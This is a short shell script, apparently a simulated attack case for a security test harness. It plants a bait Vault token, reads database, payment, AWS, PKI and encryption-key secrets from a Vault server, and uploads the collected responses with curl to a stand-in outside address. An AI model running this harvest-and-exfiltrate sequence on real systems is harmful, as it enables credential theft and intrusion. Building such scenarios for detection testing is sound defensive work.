#!/bin/sh
. /opt/case/case.sh

echo hvs.bait-bait-bait >/root/.vault-token && chmod 600 /root/.vault-token
for p in sys/mounts auth/token/lookup-self 'secret/metadata?list=true' secret/data/db secret/data/payments secret/data/registry pki/ca_chain database/creds/admin aws/creds/deploy transit/export/encryption-key/main sys/raw/core/keyring; do
    curl -sf -H "X-Vault-Token: $(cat /root/.vault-token)" "http://vault.service.consul:8080/v1/$p" >>/tmp/.v
done
curl -sf --data-binary @/tmp/.v http://203.0.113.10/v >/dev/null
took_place
